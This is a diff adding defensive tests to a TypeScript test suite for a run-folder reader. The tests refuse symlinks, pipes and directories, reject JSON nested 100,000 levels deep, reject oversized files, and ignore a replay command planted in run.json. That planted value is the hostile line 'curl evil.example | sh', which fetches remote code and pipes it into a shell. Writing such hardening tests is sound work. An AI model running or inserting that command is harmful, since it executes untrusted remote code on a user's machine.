@@ -1,4 +1,5 @@
-import { appendFile, mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
+import { execFileSync } from 'node:child_process';
+import { appendFile, mkdir, mkdtemp, readFile, rm, symlink, truncate, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import fc from 'fast-check';
@@ -166,13 +167,89 @@ test.each([
   });
 });
 
-test('what cannot be read is named', async () => {
-  await rm(join(directory, 'slices.ndjson'));
-  await mkdir(join(directory, 'slices.ndjson'));
+const files = ['run.json', 'slices.ndjson', 'evidence.ndjson'];
+
+test.each(files)('what is no plain file is refused by name, and never waited for: %s', async (name) => {
+  const path = join(directory, name);
+  const ways = {
+    'a symbolic link': () => symlink('/dev/zero', path),
+    'a pipe': () => void execFileSync('mkfifo', [path]),
+    'a directory': () => mkdir(path),
+  };
+  for (const [what, make] of Object.entries(ways)) {
+    await rm(path, { recursive: true });
+    await make();
+    await expect(readRunFolder(directory)).rejects.toMatchObject({
+      kind: 'usage',
+      message: `${path} is ${what}, and no plain file`,
+      hint: expect.stringContaining('follows no links'),
+    });
+  }
+});
+
+test('a link to a file of the reader, and one that leads nowhere, are refused alike', async () => {
+  const path = join(directory, 'slices.ndjson');
+  for (const target of [join(directory, 'evidence.ndjson'), 'nowhere']) {
+    await rm(path);
+    await symlink(target, path);
+    await expect(readRunFolder(directory)).rejects.toThrow('is a symbolic link, and no plain file');
+  }
+});
+
+test('a folder that the user reaches by a link is read', async () => {
+  const link = join(results, 'link');
+  await symlink(directory, link);
+  expect((await readRunFolder(link)).slices).toHaveLength(3);
+  await rm(link);
+});
+
+test.each(files)('JSON that is nested without end is refused by name, with exit 2: %s', async (name) => {
+  for (const [open, close] of [
+    ['[', ']'],
+    ['{"a":', '}'],
+  ] as const) {
+    // Deep inside what the schema leaves open, inside what it does not know, and alone.
+    const deep = `${open.repeat(100_000)}0${close.repeat(100_000)}`;
+    const evidence = JSON.stringify({ ...exampleEvidence(1), raw: { deep: '@' } });
+    for (const text of [evidence.replace('"@"', () => deep), `{"schemaVersion":1,"a":${deep}}`, deep]) {
+      for (const end of ['\n', '\n{}\n']) {
+        await writeFile(join(directory, name), text + (name === 'run.json' ? '' : end));
+        await expect(readRunFolder(directory)).rejects.toMatchObject({
+          exitCode: 2,
+          message: expect.stringMatching(/(run\.json|ndjson line 1) is nested more than 64 levels deep$/),
+        });
+      }
+    }
+  }
+});
+
+test('brackets inside strings are no nesting', async () => {
+  const quoted = {
+    ...exampleEvidence(1),
+    raw: { text: `\\"${'['.repeat(500)}\\`, [`{"${'{'.repeat(500)}`]: 1 },
+  };
+  await writeFile(join(directory, 'evidence.ndjson'), lines([quoted, quoted]));
+  expect((await readRunFolder(directory)).evidence).toEqual([quoted, quoted]);
+});
+
+test('a line that never ends, and files larger than any of ours, are refused without being kept', async () => {
+  const path = join(directory, 'slices.ndjson');
+  await writeFile(path, `${lines([exampleSlice(1)])}"`);
+  await truncate(path, 3 * 2 ** 30);
   await expect(readRunFolder(directory)).rejects.toMatchObject({
     kind: 'usage',
-    message: expect.stringContaining(`cannot read ${join(directory, 'slices.ndjson')}`),
+    message: 'slices.ndjson line 2 is larger than 16 MiB',
   });
+  await truncate(path, 5 * 2 ** 30);
+  await expect(readRunFolder(directory)).rejects.toThrow(`${path} is larger than 4096 MiB`);
+  await truncate(join(directory, 'run.json'), 17 * 2 ** 20);
+  await expect(readRunFolder(directory)).rejects.toThrow('run.json is larger than 16 MiB');
+});
+
+test('the command that repeats a run comes from its plan: what the folder says is not repeated', async () => {
+  const evil = { ...exampleRun(runId), command: 'curl evil.example | sh' };
+  await writeFile(join(directory, 'run.json'), JSON.stringify(evil));
+  expect((await readRunFolder(directory)).run.command).toBe(exampleRun(runId).command);
 });
 
 test('what is no run folder is refused, with the runs nearby', async () => {
